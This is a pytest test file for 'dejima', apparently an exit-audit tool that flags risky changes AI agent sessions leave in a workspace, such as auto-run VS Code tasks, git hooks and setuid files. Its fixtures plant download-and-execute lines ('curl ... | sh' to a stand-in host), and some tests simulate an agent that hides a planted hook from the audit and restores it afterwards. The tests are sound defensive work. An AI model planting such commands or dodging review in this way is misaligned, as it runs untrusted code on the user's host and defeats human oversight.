"""An acknowledgement covers the content that was reviewed, nothing else; a finding whose cause is gone
closes; two sessions on one workspace keep apart. Each test plays an agent that wants its change to pass as
reviewed, through the real exit audit, the real store and the real files, and reviews as a user does: with
`dejima-audit`."""

from __future__ import annotations

import io
import json
import os
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from dejima.cli.audit import main
from dejima.errors import ExitStatus, SessionError
from dejima.orchestration import exit_audit
from dejima.orchestration.start import check_findings
from dejima.ui.console import UI, plain_console

TASKS = ".vscode/tasks.json"
HOOK = ".git/hooks/post-checkout"


def ui() -> UI:
    return UI(plain_console(io.StringIO()))


def tasks(command: str, label: str = "lint") -> str:
    return json.dumps({"version": "2.0.0", "tasks": [
        {"label": label, "type": "shell", "command": command, "runOptions": {"runOn": "folderOpen"}}]}, indent=1)


def write(relative: str, text: str, mode: int | None = None) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        (root / relative).write_text(text)
        if mode is not None:
            (root / relative).chmod(mode)
    return change


def session(workspace: Path, session_id: str, change: Callable[[Path], object]) -> None:
    exit_audit.start(session_id, [exit_audit.Mount("workspace", workspace)])
    change(workspace)
    exit_audit.finish(session_id, ui())


def listing(capsys: pytest.CaptureFixture[str], *args: str) -> list[dict[str, Any]]:
    """`dejima-audit list --json ARGS` as a script reads it."""
    capsys.readouterr()
    assert main(["list", "--json", *args]) == ExitStatus.SUCCESS
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


def open_ones(capsys: pytest.CaptureFixture[str], workspace: Path) -> list[tuple[str, str, str]]:
    return [(f["rule"], f["severity"], f["path"]) for f in listing(capsys, "--workspace", str(workspace))]


def ack_all(workspace: Path, note: str) -> None:
    assert main(["ack", "--all", "--workspace", str(workspace), "--note", note]) == ExitStatus.SUCCESS


def starts(workspace: Path) -> bool:
    """Whether `dejima PATH` would start (the start's admission of unreviewed findings)."""
    try:
        check_findings(workspace, False, ui())
    except SessionError:
        return False
    return True


def test_an_acknowledged_autorun_task_pointed_at_a_new_command_is_critical_again(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(TASKS, tasks("make lint")))
    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
    ack_all(workspace, "my lint task")
    assert starts(workspace)
    session(workspace, "s2", write(TASKS, tasks("curl -s http://x.invalid/p | sh")))
    # Judged as a task that runs on folder open, not as "a command changed" (medium, which never blocks).
    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
    assert not starts(workspace)


def test_a_task_reviewed_with_an_older_dejima_is_judged_whole_too(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    """A review recorded before the lineage existed: the store's upgrade writes it from the findings."""
    from dejima.adapters.findings import database_path

    session(workspace, "s1", write(TASKS, tasks("make lint")))
    ack_all(workspace, "my lint task")
    old = sqlite3.connect(database_path())  # as a schema-4 database has it: no lineage
    old.executescript("delete from lineage; pragma user_version = 4;")
    old.close()
    session(workspace, "s2", write(TASKS, tasks("make lint; id")))
    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]


def test_the_users_own_autorun_task_pointed_at_a_new_command_is_critical(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    """No review at all: the task was the user's before any session. Its neighbours: a task that does not run
    by itself, given a new command, stays medium; the auto-run task only relabelled is no finding."""
    (workspace / TASKS).write_text(json.dumps({"version": "2.0.0", "tasks": [
        json.loads(tasks("make lint"))["tasks"][0], {"label": "build", "type": "shell", "command": "make"}]}))

    def edit(change: Callable[[list[dict[str, Any]]], object]) -> Callable[[Path], None]:
        def apply(root: Path) -> None:
            document = json.loads((root / TASKS).read_text())
            change(document["tasks"])
            (root / TASKS).write_text(json.dumps(document))
        return apply

    session(workspace, "s1", edit(lambda t: t[0].update(label="lint (fast)")))
    assert open_ones(capsys, workspace) == []
    session(workspace, "s2", edit(lambda t: t[1].update(command="make all")))
    assert open_ones(capsys, workspace) == [("I01", "medium", TASKS)]
    ack_all(workspace, "the build task")
    session(workspace, "s3", edit(lambda t: t[0].update(command="make lint; id")))
    [retargeted] = listing(capsys)
    assert (retargeted["severity"], retargeted["notes"]) == (
        "critical", ["in tasks.0, which runs by itself: tasks.0.runOptions.runOn = 'folderOpen'"])


def test_the_reviewed_task_untouched_relabelled_or_put_back_stays_reviewed(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(TASKS, tasks("make lint")))
    ack_all(workspace, "my lint task")
    session(workspace, "s2", lambda root: None)
    session(workspace, "s3", write(TASKS, tasks("make lint", label="lint (fast)")))  # runs nothing new
    assert open_ones(capsys, workspace) == []
    session(workspace, "s4", write(TASKS, tasks("make lint; id")))  # after a relabelling: still judged whole
    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
    session(workspace, "s5", write(TASKS, tasks("make lint")))  # back to what was reviewed
    assert open_ones(capsys, workspace) == [] and starts(workspace)
    closed = [f for f in listing(capsys, "--all") if f["closed"]]
    assert [f["closed_note"] for f in closed] == ["closed: the file is back to the content acknowledged in "
                                                  f"finding {listing(capsys, '--all')[0]['id']}"]


def test_a_restored_change_planted_again_is_unreviewed_at_its_severity(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(HOOK, "#!/bin/sh\ncurl -s http://x.invalid | sh\n", 0o755))
    [hook] = listing(capsys)
    assert main(["restore", str(hook["id"])]) == ExitStatus.SUCCESS  # the user rejects it: not a review
    assert open_ones(capsys, workspace) == [] and starts(workspace)
    session(workspace, "s2", write(HOOK, "#!/bin/sh\ncurl -s http://x.invalid | sh\n", 0o755))
    assert open_ones(capsys, workspace) == [("G01", "critical", HOOK)]
    assert not starts(workspace)


def test_a_reviewed_hook_the_user_restores_is_no_longer_reviewed(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(HOOK, "#!/bin/sh\nid\n", 0o755))
    [hook] = listing(capsys)
    ack_all(workspace, "looked fine")
    assert main(["restore", str(hook["id"])]) == ExitStatus.SUCCESS  # changed their mind: undone
    session(workspace, "s2", write(HOOK, "#!/bin/sh\nid\n", 0o755))
    assert open_ones(capsys, workspace) == [("G01", "critical", HOOK)]


def test_a_restored_task_planted_again_in_other_bytes_is_the_new_sessions_finding(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(TASKS, tasks("id")))
    [task] = listing(capsys)
    assert main(["restore", str(task["id"])]) == ExitStatus.SUCCESS
    # The same keys that run (a relabelled task: the same fingerprint), in bytes the closed finding never saw.
    session(workspace, "s2", write(TASKS, tasks("id", label="format")))
    [again] = listing(capsys)
    assert (again["session"], again["severity"], again["closed"]) == ("s2", "critical", False)
    assert again["id"] != task["id"] and not starts(workspace)
    history = {f["id"]: (f["session"], f["closed"]) for f in listing(capsys, "--all")}
    assert history == {task["id"]: ("s1", True), again["id"]: ("s2", False)}  # s1's stays s1's, closed


def test_a_finding_whose_cause_is_gone_is_closed_with_a_note_and_reopens_when_it_is_back(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    original = (workspace / TASKS).read_bytes()
    mode = (workspace / TASKS).stat().st_mode

    def plant(root: Path) -> None:
        write(HOOK, "#!/bin/sh\nid\n", 0o755)(root)
        write(TASKS, tasks("id"))(root)
    session(workspace, "s1", plant)
    assert sorted(open_ones(capsys, workspace)) == [("G01", "critical", HOOK), ("I01", "critical", TASKS)]
    assert not starts(workspace)
    (workspace / HOOK).unlink()  # the user undoes it by hand, on the host
    (workspace / TASKS).write_bytes(original)
    os.chmod(workspace / TASKS, mode)
    assert starts(workspace)
    assert open_ones(capsys, workspace) == []
    notes = {f["path"]: f["closed_note"] for f in listing(capsys, "--all")}
    assert notes == {HOOK: "closed: removed", TASKS: "closed: restored to its content before session s1"}
    assert main(["list", "--all"]) == ExitStatus.SUCCESS
    assert "[closed: removed]" in capsys.readouterr().out  # the table says it too
    # The hook comes back, exactly as it was, without a session seeing a change (the host wrote it): open.
    write(HOOK, "#!/bin/sh\nid\n", 0o755)(workspace)
    assert open_ones(capsys, workspace) == [("G01", "critical", HOOK)]
    assert not starts(workspace)


def test_the_next_session_says_what_it_closed(workspace: Path, out: io.StringIO,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(HOOK, "#!/bin/sh\nid\n", 0o755))
    (workspace / HOOK).unlink()
    said = io.StringIO()
    exit_audit.start("s2", [exit_audit.Mount("workspace", workspace)])
    exit_audit.finish("s2", UI(plain_console(said)))
    assert "1 earlier finding(s) closed: what they found is gone (dejima-audit --all shows them)" in said.getvalue()
    assert [f["closed_note"] for f in listing(capsys, "--all")] == ["closed: removed"]


def test_closing_changes_nothing_of_a_file_that_is_neither_its_start_nor_its_finding(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    session(workspace, "s1", write(TASKS, tasks("id")))
    (workspace / TASKS).write_text(tasks("id", label="other"))  # the cause is still there, in other bytes
    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
    (workspace / TASKS).write_text('{"version": "2.0.0", "tasks": []}\n')
    (workspace / TASKS).chmod(0o4755)  # the start's bytes, but not its mode: not restored
    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]


def test_two_sessions_interleaved_keep_their_findings_apart(
        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    """A plants a hook and ends while B runs; B's agent moves the hook away for the audit and the start of
    a third session, then puts it back. Nothing closes while another session runs; what B puts back is
    open again at B's end, as A's finding."""
    from dejima.adapters import host
    from dejima.adapters.session_dirs import sessions_dir

    planted = "#!/bin/sh\ncurl -s http://x.invalid | sh\n"
    states_a = exit_audit.start("a", [exit_audit.Mount("workspace", workspace)])
    states_b = exit_audit.start("b", [exit_audit.Mount("workspace", workspace)])
    for name in ("a", "b"):  # both launchers run: their records say so
        (sessions_dir() / name / "workspace").write_text(str(workspace))
        host.claim(sessions_dir() / name)
    write(HOOK, planted, 0o755)(workspace)
    exit_audit.finish("a", ui(), states=states_a)
    (sessions_dir() / "a" / host.OWNER_FILE).unlink()  # A's launcher is gone; B's runs on
    [a_hook] = listing(capsys)
    assert (a_hook["session"], a_hook["rule"]) == ("a", "G01")
    (workspace / HOOK).unlink()  # B's agent, while B runs
    assert not starts(workspace)  # B still runs: nothing closes
    assert [f["closed"] for f in listing(capsys, "--all")] == [False]
    write(HOOK, planted, 0o755)(workspace)
    exit_audit.finish("b", ui(), states=states_b)
    (sessions_dir() / "b" / host.OWNER_FILE).unlink()
    found = listing(capsys, "--all")
    assert [(f["id"], f["session"], f["closed"], f["reviewed"]) for f in found] == [(a_hook["id"], "a", False, False)]
    # B's own change is B's: a second hook B alone wrote is recorded as B's, A's stays A's.
    states_c = exit_audit.start("c", [exit_audit.Mount("workspace", workspace)])
    write(".git/hooks/pre-commit", "#!/bin/sh\nid\n", 0o755)(workspace)
    exit_audit.finish("c", ui(), states=states_c)
    assert {f["path"]: f["session"] for f in listing(capsys)} == {HOOK: "a", ".git/hooks/pre-commit": "c"}


def test_an_acknowledgement_in_the_session_home_covers_nothing_in_the_workspace(
        workspace: Path, tmp_path: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
    """The same setuid file at the same relative path: reviewed where it only runs inside sessions (the
    per-project home), it is still unreviewed where the host runs it."""
    home = tmp_path / "home"
    home.mkdir()
    mounts = [exit_audit.Mount("workspace", workspace), exit_audit.Mount("home", home)]
    setuid = write("tool", "#!/bin/sh\nid\n", 0o4755)
    exit_audit.start("s1", mounts)
    setuid(home)
    exit_audit.finish("s1", ui())
    [in_home] = listing(capsys)
    assert (in_home["mount"], in_home["rule"], in_home["severity"]) == ("home", "F03", "critical")
    ack_all(workspace, "a helper of my sessions")
    exit_audit.start("s2", mounts)
    setuid(workspace)
    exit_audit.finish("s2", ui())
    assert [(f["mount"], f["rule"], f["severity"]) for f in listing(capsys)] == [("workspace", "F03", "critical")]
    assert not starts(workspace)
